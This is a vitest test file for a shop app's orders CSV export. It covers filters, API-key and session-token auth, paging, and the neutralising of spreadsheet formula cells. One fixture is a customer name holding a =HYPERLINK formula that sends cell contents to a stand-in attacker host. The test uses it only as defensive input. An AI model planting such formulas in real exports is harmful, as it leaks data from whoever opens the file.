import { parse as parseCsv } from "csv-parse/sync";
import { beforeAll, describe, expect, it } from "vitest";
import { ensureShop } from "~/.server/db/shops";
import { setQueue } from "~/.server/jobs/queue";
import { InProcessQueue } from "~/.server/queues/in-process-queue";
import { ordersCsv } from "~/.server/use-cases/export-orders-csv";
import { createApiKey, revokeApiKey } from "~/.server/use-cases/manage-api-keys";
import { ORDER_CSV_COLUMNS } from "~/domain/orders/orders-csv";
import { mintSessionToken } from "../../sandbox/shopify/session-token";
import { addLocation, addSku, channelOrder, ingestOn } from "../support/catalog";
import { remixRequestHandler } from "../support/remix-app";
import { BROWSER_UA } from "../support/requests";
import { addOfflineSession } from "../support/sessions";

// GET /api/v1/orders.csv: the shop's orders with their lines for a spreadsheet — through the real route table,
// with API keys and session tokens, the list's filters, formula cells neutralised, streamed page by page.

const A = "orders-csv-a.myshopify.com";
const B = "orders-csv-b.myshopify.com";
const URL_BASE = "http://127.0.0.1:3999";
const app = { apiKey: process.env.SHOPIFY_API_KEY!, apiSecret: process.env.SHOPIFY_API_SECRET! };
setQueue(new InProcessQueue());

type Row = Record<(typeof ORDER_CSV_COLUMNS)[number], string>;
let handle: (request: Request) => Promise<Response>;
let shopA: string;
let readKey: string;
let revokedKey: string;
const ids: Record<string, string> = {};

beforeAll(async () => {
  handle = await remixRequestHandler();
  shopA = (await ensureShop(A)).id;
  const shopB = (await ensureShop(B)).id;
  await addOfflineSession(A);
  await addOfflineSession(B);
  const dallas = (await addLocation(shopA, "71", "dallas")).id;
  const newark = (await addLocation(shopA, "72", "newark")).id;
  await addSku(shopA, "MUG", { [dallas]: 3, [newark]: 2 }); // 5 MUG can only ship as 3 + 2
  await addSku(shopA, "CAP", { [newark]: 10 });
  await addSku(shopA, "RARE", {});
  await addSku(shopB, "MUG", { [(await addLocation(shopB, "81", "reno")).id]: 5 });

  // Placed one second apart, so the export's order (newest first) is known.
  const placed = (n: number) => new Date(Date.UTC(2026, 10, 1, 9, 0, n)).toISOString();
  ids.split = (await ingestOn(A, "shopify", channelOrder([{ sku: "MUG", quantity: 5 }, { sku: "CAP", quantity: 1 }], { externalId: "5001", city: "dallas", placedAt: placed(1) }))).orderId;
  ids.waiting = (await ingestOn(A, "manual", channelOrder([{ sku: "RARE", quantity: 2 }], { externalId: "phone-1", placedAt: placed(2) }))).orderId;
  const hostile = channelOrder([{ sku: "CAP", quantity: 1 }], { externalId: "phone-2", placedAt: placed(3) });
  hostile.customerName = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
  hostile.lines[0].title = "+SUM(1,2)";
  hostile.shipTo!.city = "@Paris, \"Left bank\"";
  hostile.shipTo!.province = "-2+3";
  ids.hostile = (await ingestOn(A, "manual", hostile)).orderId;
  for (let n = 0; n < 4; n += 1) ids[`bulk${n}`] = (await ingestOn(A, "manual", channelOrder([{ sku: "CAP", quantity: 1 }], { externalId: `bulk-${n}`, placedAt: placed(10 + n) }))).orderId;
  await ingestOn(B, "manual", channelOrder([{ sku: "MUG", quantity: 1 }], { externalId: "b-only", placedAt: placed(5) }));

  readKey = (await createApiKey(shopA, { name: "Spreadsheet", scope: "read" })).text;
  const revoked = await createApiKey(shopA, { name: "Old", scope: "read" });
  await revokeApiKey(shopA, revoked.key.id);
  revokedKey = revoked.text;
});

const get = (path: string, bearer: string | null) =>
  handle(new Request(`${URL_BASE}${path}`, { headers: { ...(bearer ? { Authorization: `Bearer ${bearer}` } : {}), "User-Agent": BROWSER_UA } }));

async function csvOf(path: string, bearer = readKey): Promise<{ response: Response; text: string; rows: Row[] }> {
  const response = await get(path, bearer);
  const text = await response.text();
  if (response.status !== 200) return { response, text, rows: [] };
  return { response, text, rows: parseCsv(text, { columns: true }) as Row[] };
}

describe("GET /api/v1/orders.csv", () => {
  it("exports every order of the key's shop, newest first, one row per line with the order repeated", async () => {
    const { response, text, rows } = await csvOf("/api/v1/orders.csv");
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("content-disposition")).toMatch(/^attachment; filename="orders-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(text.split("\r\n")[0]).toBe(ORDER_CSV_COLUMNS.join(","));
    expect(rows.map((r) => r.external_id)).toEqual(["bulk-3", "bulk-2", "bulk-1", "bulk-0", "phone-2", "phone-1", "5001", "5001"]);
    expect(rows.some((r) => r.external_id === "b-only")).toBe(false);

    const split = rows.filter((r) => r.order_id === ids.split);
    expect(split.map((r) => [r.channel, r.sku, r.quantity, r.unit_price, r.line_total, r.allocated_locations, r.backordered_quantity])).toEqual([
      ["shopify", "MUG", "5", "10.00", "50.00", "dallas (3); newark (2)", "0"],
      ["shopify", "CAP", "1", "10.00", "10.00", "newark (1)", "0"],
    ]);
    expect(split[0]).toMatchObject({ order_name: split[1].order_name, status: "reserved", currency: "USD", order_total: "10.00", ship_city: "dallas", ship_province: "TX", ship_country: "US", placed_at: "2026-11-01T09:00:01.000Z" });
    expect(rows.find((r) => r.order_id === ids.waiting)).toMatchObject({ status: "backordered", sku: "RARE", allocated_locations: "", backordered_quantity: "2" });
  });

  it("writes cells a spreadsheet would run as formulas as quoted text", async () => {
    const { text, rows } = await csvOf("/api/v1/orders.csv?externalId=phone-2");
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({ customer: `'=HYPERLINK("http://evil.example/?"&A1,"Click")`, title: "'+SUM(1,2)", ship_city: `'@Paris, "Left bank"`, ship_province: "'-2+3" });
    const cells = text.split("\r\n")[1];
    expect(cells).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
    expect(cells).toContain(`"'+SUM(1,2)"`);
    expect(cells).toContain(`"'-2+3"`);
    for (const cell of parseCsv(text, { from_line: 2 })[0] as string[]) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it("filters as GET /api/v1/orders does, and by status", async () => {
    expect((await csvOf("/api/v1/orders.csv?channel=shopify")).rows.map((r) => r.external_id)).toEqual(["5001", "5001"]);
    expect(new Set((await csvOf("/api/v1/orders.csv?channel=manual")).rows.map((r) => r.channel))).toEqual(new Set(["manual"]));
    expect((await csvOf("/api/v1/orders.csv?externalId=phone-1")).rows.map((r) => r.order_id)).toEqual([ids.waiting]);
    expect((await csvOf("/api/v1/orders.csv?status=backordered")).rows.map((r) => r.order_id)).toEqual([ids.waiting]);
    expect((await csvOf("/api/v1/orders.csv?channel=manual&status=backordered")).rows.map((r) => r.order_id)).toEqual([ids.waiting]);
    // Nothing matches: the header alone.
    const none = await csvOf("/api/v1/orders.csv?channel=wholesale");
    expect([none.response.status, none.text]).toEqual([200, `${ORDER_CSV_COLUMNS.join(",")}\r\n`]);
  });

  it("refuses filters it does not know, saying which", async () => {
    for (const [query, field] of [["status=lost", "status"], ["channel=fax", "channel"], ["limit=5", "query"]]) {
      const response = await get(`/api/v1/orders.csv?${query}`, readKey);
      expect(response.status, query).toBe(400);
      expect(((await response.json()) as { error: { code: string; message: string } }).error).toMatchObject({ code: "QUERY.INVALID", message: expect.stringContaining(field) });
    }
  });

  it("takes a read key or a session token; a revoked key, another shop's token or none gets nothing", async () => {
    expect((await csvOf("/api/v1/orders.csv", mintSessionToken(app, A))).rows).toHaveLength(8);
    const otherShop = await csvOf("/api/v1/orders.csv", mintSessionToken(app, B));
    expect(otherShop.rows.map((r) => r.external_id)).toEqual(["b-only"]);
    const revoked = await get("/api/v1/orders.csv", revokedKey);
    expect(revoked.status).toBe(401);
    expect(await revoked.text()).not.toContain("phone-1");
    expect((await get("/api/v1/orders.csv", null)).status).toBe(401);
    expect((await handle(new Request(`${URL_BASE}/api/v1/orders.csv`, { method: "POST", headers: { Authorization: `Bearer ${readKey}`, "User-Agent": BROWSER_UA } }))).status).toBe(405);
  });

  it("pages through the orders by cursor: a page at a time, the same file whatever the page size", async () => {
    const whole = await new Response(ordersCsv(shopA, {}).stream).text();
    const stream = ordersCsv(shopA, {}, { pageSize: 2 }).stream;
    const chunks: string[] = [];
    const decoder = new TextDecoder();
    for await (const chunk of stream as unknown as AsyncIterable<Uint8Array>) chunks.push(decoder.decode(chunk));
    // 7 orders in pages of 2: four pages, each written as it is read, the header with the first.
    expect(chunks).toHaveLength(4);
    expect(chunks[0].startsWith(`${ORDER_CSV_COLUMNS.join(",")}\r\n`)).toBe(true);
    expect(chunks.slice(1).every((c) => !c.includes("order_id"))).toBe(true);
    expect(chunks.join("")).toBe(whole);
    expect((parseCsv(whole, { columns: true }) as Row[]).map((r) => r.external_id)).toHaveLength(8);
  });
});
